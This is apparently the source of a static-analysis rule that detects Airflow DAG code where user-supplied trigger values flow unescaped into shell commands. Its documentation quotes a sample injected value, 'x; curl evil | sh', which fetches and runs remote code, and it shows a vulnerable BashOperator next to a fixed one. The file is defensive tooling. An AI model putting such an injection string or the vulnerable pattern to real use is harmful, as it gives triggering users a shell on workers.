import { airflowAtLeast } from "../airflow/availability.ts";
import type { DagFile, Executing, RemoteCall, Task } from "../airflow/dagfile.ts";
import { pulledInputs } from "../airflow/pulledInput.ts";
import { shellTexts } from "../airflow/shellTexts.ts";
import type { Project } from "../airflow/target.ts";
import { codeInput, isOpen, renderedInputs, templateInputs, type UserInput } from "../airflow/userInput.ts";
import { type TemplateValue, viaEnvironment } from "../edits/viaEnvironment.ts";
import type { Script } from "../shell/script.ts";
import { type Hole, sourceSpan } from "../syntax/folded.ts";
import type { Scope } from "../syntax/scope.ts";
import type { SourceSpan } from "../text/span.ts";
import { textsOption } from "./option.ts";
import { defineRule, type Related } from "./rule.ts";

const safeFilters = textsOption(
  "safe-filters",
  "Jinja filters that quote a value for the shell though they have the name of one that does not, such as a `tojson` or `e` of your own. A filter that Jinja and Airflow do not have is taken to be one anyway.",
);

export default defineRule({
  code: "TET603",
  name: "user-input-in-shell",
  group: "unsafe",
  severity: "warning",
  summary: "What a user gives when triggering the DAG becomes part of a shell command",
  since: "0.1.0",
  status: "stable",
  profile: "recommended",
  docs: {
    why: `Airflow puts \`{{ dag_run.conf['table'] }}\` and \`{{ params.table }}\` into the text before the shell reads it, and escapes nothing: with \`x; curl evil | sh\` in the configuration, the task runs that too. Quotes around the template do not help, for the value may close them. Since Airflow 2.0 \`dag_run.conf\` overrides params (\`dag_run_conf_overrides_params\`), so a param without a schema takes any text as well. Everybody with the right to trigger the DAG, in the web interface or by the API, gets a shell on the worker, or on the host behind the operator.`,
    bad: `from airflow import DAG
from airflow.operators.bash import BashOperator

with DAG("load") as dag:
    load = BashOperator(task_id="load", bash_command="/opt/load --table {{ dag_run.conf['table'] }}")
`,
    good: `from airflow import DAG
from airflow.operators.bash import BashOperator

with DAG("load") as dag:
    load = BashOperator(
        task_id="load",
        bash_command='/opt/load --table "$TABLE"',
        env={"TABLE": "{{ dag_run.conf['table'] }}"},
        append_env=True,
    )
`,
    limits:
      "Followed are names, calls of the file's own functions, and one XCom: what a callable returns or pushes, and a template pulls by the task's id. Values that a schema restricts (a `Param` with enum, pattern, a checked format or another type than string), that pass an int, a quoting or an unknown filter, or that the text or the code tests first are left alone; so are keys of `dag_run.conf` that the file's own code sets, and a task's own params, which are meant as constants, though dag_run.conf overrides them too.",
    links: [
      "https://airflow.apache.org/docs/apache-airflow-providers-standard/stable/operators/bash.html",
      "https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html",
      "https://airflow.apache.org/docs/apache-airflow/stable/core-concepts/params.html",
    ],
  },
  options: [safeFilters],
  check(file, report, option) {
    const safe = option(safeFilters);
    const seen = new Set<number>();
    for (const { root, task, call, script } of shellTexts(file)) {
      const inputs = [
        ...owners(task).flatMap((one) => fromTemplate(file, one, root, safe)),
        ...(call ? fromCode(file, root, call.scope, safe, call) : []),
        ...(task?.executedBy ? fromCode(file, root, task.scope, safe, undefined, task.executedBy.tasks) : []),
        ...(task?.callable && script?.argument === "return"
          ? fromCode(file, root, file.names.scopeOf(task.callable), safe, undefined, [task])
          : []),
      ];
      // One text, one finding: at the worst place.
      const [first, ...others] = [...inputs].sort((a, b) => rank(a) - rank(b) || a.span.start - b.span.start);
      if (!first || seen.has(first.span.start)) continue;
      seen.add(first.span.start);
      const { input, span } = first;
      const where = places[root.place];
      const any = input.from === "params" ? " accepts any text" : " goes into this shell text as it is";
      report({
        span,
        severity: input.from === "dag_run.conf" ? "error" : "warning",
        message: `${input.shown}${any}: whoever may trigger the DAG can run any command ${where}.`,
        hint: hintFor(file.project, root, first, call ?? task?.executedBy),
        ...(call ? { cause: call.call.span } : {}),
        fixes: () =>
          task && !task.executedBy && !severalIn(root, first)
            ? [viaEnvironment(file, task, root, inputs.flatMap(direct))]
            : [],
        related: [
          ...(first.handed ? [first.handed] : []),
          ...others
            .filter((one) => one.span.start !== span.start)
            .slice(0, 5)
            .map((one) => ({ span: one.span, message: `so does ${one.input.shown}` })),
        ],
      });
    }
  },
});

/** The task whose text it is, or those that run the operator whose it is. */
function owners(task: Task | undefined): readonly Task[] {
  return task?.executedBy?.tasks ?? (task ? [task] : []);
}

const places = { worker: "on the worker", remote: "on the remote host", container: "in the container" } as const;

type Found = {
  readonly input: UserInput;
  readonly span: SourceSpan;
  readonly hole?: Hole;
  /** Where another task puts it into its XCom. */
  readonly handed?: Related;
};

/** What stands in the text by itself, not through a `{% set %}` of it. */
function direct({ input, hole }: Found): TemplateValue[] {
  return hole ? [{ hole, key: input.key ?? "conf" }] : [];
}

function rank({ input }: Found): number {
  return input.from === "dag_run.conf" ? 0 : 1;
}

function fromTemplate(file: DagFile, task: Task, root: Script, safe: readonly string[]): Found[] {
  const span = (hole: Hole): SourceSpan => sourceSpan(root.folded, hole);
  return [
    ...templateInputs(file, task, root, safe).map(({ input, hole }) => ({ input, hole, span: span(hole) })),
    ...pulledInputs(file, task, root, safe).map(({ input, hole, from, handed }) => ({
      input,
      hole,
      span: span(hole),
      handed: { span: handed, message: `${from.id ?? "the other task"} hands it on here` },
    })),
  ];
}

/** f"/opt/load {params['table']}" in the code of a task; a list handed to a program without a shell is no text. */
function fromCode(
  file: DagFile,
  root: Script,
  scope: Scope,
  safe: readonly string[],
  call: RemoteCall | undefined,
  own?: readonly Task[],
): Found[] {
  if (call?.command && "argv" in call.command && root.place === "worker") return [];
  const tasks = own ?? call?.tasks ?? [];
  const rendered = call ? tasks.flatMap((task) => renderedInputs(file, task, call, root, safe)) : [];
  if (call && rendered.length > 0) return rendered.map(({ input }) => ({ input, span: call.span }));
  return root.folded.holes.flatMap((hole): Found[] => {
    if (!hole.expr) return [];
    // What a parameter stands for is written by its caller.
    const home = file.results.functionOf(hole.expr);
    const input = codeInput(file, hole.expr, home && home !== call?.function ? file.names.scopeOf(home) : scope);
    if (!input || (input.key === undefined && input.from === "params")) return [];
    if (tasks.length > 0 && !tasks.some((task) => isOpen(file, task, input))) return [];
    return [{ input, span: sourceSpan(root.folded, hole) }];
  });
}

function hintFor(project: Project, root: Script, given: Found, code: RemoteCall | Executing | undefined): string {
  const { input } = given;
  const schema = !airflowAtLeast(project, "2.2.0")
    ? "compare it with the values that you allow"
    : input.from === "params"
      ? "give the Param an enum or a pattern"
      : "check it by a Param with an enum or a pattern";
  // exec_command and its kin take one text, and a shell on the other side reads it.
  if (code)
    return root.place === "worker" && "call" in code
      ? `Quote it with shlex.quote(), or pass a list without a shell; or ${schema}.`
      : `Quote it with shlex.quote(); or ${schema}.`;
  if (root.place !== "worker")
    return airflowAtLeast(project, "2.2.0")
      ? `Give ${input.shown} a schema: ${schema}.`
      : "Compare it with the values that you allow before the command runs.";
  if (severalIn(root, given) && airflowAtLeast(project, "2.2.0"))
    return `Quoted, several arguments would become one word: ${schema}.`;
  return `Hand it over in env= and write "$VALUE" in the text; or ${schema}.`;
}

/** `dbt run {{ params.args }}`: unquoted, a word of its own that ends its command, and named for more than one. */
function severalIn({ folded: { text } }: Script, { input, hole }: Found): boolean {
  if (!hole || !/\s/.test(text[hole.start - 1] ?? "") || !/^\s*(?:$|[\n;|&])/.test(text.slice(hole.end))) return false;
  return /arg|opt|flag|param|extra|select|exclude|cmd|command/i.test(input.key ?? input.shown);
}
